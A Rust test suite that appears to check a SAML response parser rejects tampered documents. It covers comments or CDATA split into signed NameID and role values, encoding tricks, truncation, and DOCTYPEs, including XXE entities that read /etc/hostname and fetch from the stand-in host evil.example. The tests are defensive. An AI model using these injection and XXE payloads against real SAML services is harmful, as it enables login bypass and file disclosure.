//! Documents that no honest provider sends: hidden markup, other encodings, torsos. Those meant to
//! exhaust us are in `limits`.

use roster_saml::{DocumentFault, MAX_POSTED_RESPONSE, SamlRefusal};

use crate::assert_refused;
use crate::support::okta::{self, PERSON, replaced};
use crate::support::{post, refusal, refusal_of_bytes, refusal_of_post};

/// A signed response with something put into the middle of its NameID, its e-mail and its role.
fn split_by(markup: &str) -> Vec<String> {
    [
        (PERSON, format!("ada@{markup}example.com")),
        ("Analyst", format!("Ana{markup}lyst")),
    ]
    .into_iter()
    .map(|(value, split)| replaced(&okta::signed(), value, &split))
    .collect()
}

#[test]
fn a_comment_inside_a_value_is_refused() {
    for xml in split_by("<!-- x -->") {
        assert_refused!(xml, SamlRefusal::Document(DocumentFault::Comment));
    }
}

#[test]
fn a_processing_instruction_inside_a_value_is_refused() {
    for xml in split_by("<?x y?>") {
        assert_refused!(
            xml,
            SamlRefusal::Document(DocumentFault::ProcessingInstruction)
        );
    }
}

#[test]
fn a_cdata_section_inside_a_value_is_refused() {
    for xml in split_by("<![CDATA[]]>") {
        assert_refused!(xml, SamlRefusal::Document(DocumentFault::CData));
    }
    let whole = replaced(&okta::signed(), PERSON, &format!("<![CDATA[{PERSON}]]>"));
    assert_refused!(whole, SamlRefusal::Document(DocumentFault::CData));
}

#[test]
fn a_comment_anywhere_is_refused() {
    let signed = okta::signed();
    for at in ["<saml2p:Response", "<saml2:Subject>", "</saml2p:Response>"] {
        let xml = signed.replacen(at, &format!("<!---->{at}"), 1);
        assert_refused!(xml, SamlRefusal::Document(DocumentFault::Comment));
    }
    assert_refused!(
        format!("{signed}<!-- x -->"),
        SamlRefusal::Document(DocumentFault::Comment)
    );
}

pub(crate) fn with_doctype(subset: &str, value: &str) -> String {
    let (declaration, rest) = okta::signed()
        .split_once("?>")
        .map(|(a, b)| (a.to_owned(), b.to_owned()))
        .unwrap();
    format!(
        "{declaration}?><!DOCTYPE r [{subset}]>{}",
        rest.replace(PERSON, value)
    )
}

#[test]
fn a_document_type_is_refused() {
    assert_refused!(
        with_doctype("", PERSON),
        SamlRefusal::Document(DocumentFault::DocumentType)
    );
    let bare = okta::signed().replacen(
        "?>",
        r#"?><!DOCTYPE r SYSTEM "https://evil.example/r.dtd">"#,
        1,
    );
    assert_refused!(bare, SamlRefusal::Document(DocumentFault::DocumentType));
    let defaulted = with_doctype(r#"<!ATTLIST saml2:Assertion ID ID #IMPLIED>"#, PERSON);
    assert_refused!(
        defaulted,
        SamlRefusal::Document(DocumentFault::DocumentType)
    );
}

#[test]
fn an_external_entity_is_refused() {
    for subset in [
        r#"<!ENTITY x SYSTEM "file:///etc/hostname">"#,
        r#"<!ENTITY % x SYSTEM "https://evil.example/x"> %x;"#,
    ] {
        assert_refused!(
            with_doctype(subset, "&x;"),
            SamlRefusal::Document(DocumentFault::DocumentType)
        );
    }
    assert_refused!(
        replaced(&okta::signed(), PERSON, "&x;"),
        SamlRefusal::Document(DocumentFault::NotXml { .. })
    );
}

#[test]
fn what_is_not_base64_is_refused() {
    let double = post(&post(&okta::signed()));
    assert!(matches!(
        refusal_of_post(&double),
        SamlRefusal::Document(DocumentFault::NotXml { .. })
    ));
    let mut bad = post(&okta::signed());
    bad.replace_range(100..101, "*");
    for posted in [
        "=",
        "A",
        "%3C",
        "PD94\0",
        &okta::signed(),
        &bad,
        "PHg+=",
        "PHgvPg",
    ] {
        assert_eq!(refusal_of_post(posted), SamlRefusal::NotBase64, "{posted}");
    }
    assert!(matches!(
        refusal_of_post(""),
        SamlRefusal::Document(DocumentFault::NotXml { .. })
    ));
    let spaces = " ".repeat(MAX_POSTED_RESPONSE);
    assert!(matches!(
        refusal_of_post(&spaces),
        SamlRefusal::Document(DocumentFault::NotXml { .. })
    ));
}

#[test]
fn only_utf_8_is_read() {
    let mut latin = okta::signed().into_bytes();
    let at = latin.windows(3).position(|three| three == b"Ada").unwrap();
    latin[at] = 0xE4;
    assert_eq!(
        refusal_of_bytes(&latin),
        SamlRefusal::Document(DocumentFault::NotUtf8)
    );
    let utf_16: Vec<u8> = okta::signed()
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let refusal = refusal_of_bytes(&utf_16);
    assert!(matches!(refusal, SamlRefusal::Document(_)), "{refusal:?}");
    for encoding in ["UTF-16", "UTF-7", "ISO-8859-1"] {
        let xml = okta::signed().replacen("UTF-8", encoding, 1);
        assert_refused!(xml, SamlRefusal::Document(DocumentFault::NotUtf8));
    }
    assert!(matches!(
        refusal_of_bytes(b"\0\0\0\0"),
        SamlRefusal::Document(DocumentFault::NotXml { .. })
    ));
}

#[test]
fn a_truncated_document_is_refused_at_every_length() {
    let signed = okta::signed();
    for length in (0..signed.len()).step_by(97) {
        let refusal = refusal(&signed[..length]);
        assert!(
            matches!(refusal, SamlRefusal::Document(_)),
            "{length}: {refusal:?}"
        );
    }
    let posted = post(&signed);
    for length in (1..posted.len()).step_by(101) {
        let refusal = refusal_of_post(&posted[..length]);
        assert!(
            matches!(refusal, SamlRefusal::Document(_) | SamlRefusal::NotBase64),
            "{length}: {refusal:?}"
        );
    }
}

#[test]
fn two_documents_in_one_are_refused() {
    let (_, body) = okta::signed()
        .split_once("?>")
        .map(|(a, b)| (a.to_owned(), b.to_owned()))
        .unwrap();
    assert_refused!(
        format!("{}{body}", okta::signed()),
        SamlRefusal::Document(DocumentFault::NotXml { .. })
    );
    assert_refused!(
        format!("{}x", okta::signed()),
        SamlRefusal::Document(DocumentFault::NotXml { .. })
    );
}

#[test]
fn another_version_or_message_is_refused() {
    let signed = okta::signed();
    assert_refused!(
        signed.replacen(r#"Version="2.0""#, r#"Version="1.1""#, 1),
        SamlRefusal::Version { .. }
    );
    let unversioned = okta::sign_response(
        &okta::unsigned().replace(r#"Z" Version="2.0" xmlns:saml2="#, r#"Z" xmlns:saml2="#),
    );
    assert_refused!(unversioned, SamlRefusal::Version { .. });
    let foreign = signed.replace("urn:oasis:names:tc:SAML:2.0:protocol", "urn:x");
    assert_refused!(foreign, SamlRefusal::NotAResponse { .. });
    let artifact = signed.replace("saml2p:Response", "saml2p:ArtifactResponse");
    assert_refused!(artifact, SamlRefusal::NotAResponse { .. });
}

#[test]
fn refusals_show_the_attackers_text_short_and_escaped() {
    let hostile = format!("\u{202e}&#10;{}", "x".repeat(500));
    let xml =
        okta::sign_assertion(&okta::unsigned()).replacen("#rsa-sha256", &format!("#{hostile}"), 1);
    let shown = refusal(&xml).to_string();
    assert!(
        shown.chars().count() < 400 && !shown.contains('\n') && !shown.contains('\u{202e}'),
        "{shown}"
    );
    assert!(shown.contains("\\u{202e}\\nxxx"), "{shown}");
}
